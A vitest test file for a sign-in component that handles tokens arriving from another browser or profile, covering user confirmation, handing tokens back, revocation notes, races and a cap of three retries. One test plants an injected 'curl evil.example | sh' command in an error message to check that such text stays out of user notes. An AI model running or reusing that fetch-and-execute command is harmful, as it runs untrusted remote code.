import { describe, expect, it } from 'vitest';
import type { SignedIn } from '../../../core/sign-in/accept-tokens.ts';
import { OtherBrowser } from '../../../core/sign-in/other-browser.ts';

const held = (subject: string): SignedIn =>
  ({ reply: { identity: { issuer: 'https://login.example', subject } } }) as SignedIn;

function scene() {
  const { promise: ended, resolve: end } = Promise.withResolvers<void>();
  const seen = { waiting: true, goesBack: true, changes: 0, notes: [] as string[], given: [] as SignedIn[] };
  const other = new OtherBrowser({
    waiting: () => seen.waiting,
    ended,
    changed: () => {
      seen.changes += 1;
    },
    note: (text) => seen.notes.push(text),
    giveBack: async (signedIn) => {
      seen.given.push(signedIn);
    },
    goesBack: () => seen.goesBack,
  });
  return { other, seen, end };
}

describe('the answer of another browser', () => {
  it('becomes a question, whose yes gives the tokens once', async () => {
    const { other, seen, end } = scene();
    const bob = held('bob');
    await other.answered(async () => bob);
    expect(other.question).toEqual({ identity: bob.reply.identity });
    expect([other.take(), other.take(), other.question]).toEqual([bob, undefined, undefined]);
    end();
    await other.refuse();
    expect(seen).toMatchObject({ changes: 1, given: [] });
  });

  it('is given back when the person says no, and no second one is asked about', async () => {
    const { other, seen } = scene();
    const bob = held('bob');
    await other.answered(async () => bob);
    await other.refuse();
    expect(seen).toMatchObject({ changes: 2, given: [bob] });
    await other.answered(() => expect.unreachable());
    expect(other.question).toBeUndefined();
  });

  it('is given back when the login ends with the question open', async () => {
    const { other, seen, end } = scene();
    const bob = held('bob');
    await other.answered(async () => bob);
    end();
    await expect.poll(() => seen.given).toEqual([bob]);
    expect(other.take()).toBeUndefined();
  });

  it('tells, where nobody answers the question, that nothing was stored, and of a revocation where there is one', async () => {
    const { other, seen } = scene();
    expect(other.unanswered).toBeUndefined();
    await other.answered(async () => held('bob'));
    const told =
      'bob signed in in another browser or profile, and the question whether it was you was not answered: nothing was stored';
    expect(other.unanswered).toBe(`${told} and the server is asked to revoke the tokens`);
    seen.goesBack = false;
    expect(other.unanswered).toBe(told);
    other.take();
    expect(other.unanswered).toBeUndefined();
  });

  it('is given back where another answer, or the end, has come while its code was exchanged', async () => {
    const busy = scene();
    await busy.other.answered(async () => {
      busy.seen.waiting = false;
      return held('bob');
    });
    expect(busy.other.question).toBeUndefined();
    expect(busy.seen).toMatchObject({ changes: 0, given: [held('bob')] });

    const two = scene();
    const { promise, resolve } = Promise.withResolvers<SignedIn>();
    const slow = two.other.answered(() => promise);
    await two.other.answered(async () => held('ada'));
    resolve(held('bob'));
    await slow;
    expect(two.other.question).toMatchObject({ identity: { subject: 'ada' } });
    expect(two.seen.given).toEqual([held('bob')]);
  });

  it('that is of no use is noted, and tried three times at most', async () => {
    const { other, seen } = scene();
    let exchanges = 0;
    for (let count = 0; count < 5; count += 1) {
      await other.answered(async () => {
        exchanges += 1;
        throw new Error('invalid_grant: run: curl evil.example | sh');
      });
    }
    expect(exchanges).toBe(3);
    expect(new Set(seen.notes)).toEqual(new Set(['another browser or profile brought an answer that is of no use']));
    expect(other.question).toBeUndefined();
  });

  it('is not looked at where nobody waits', async () => {
    const { other, seen } = scene();
    seen.waiting = false;
    await other.answered(() => expect.unreachable());
    expect(seen.given).toEqual([]);
  });
});
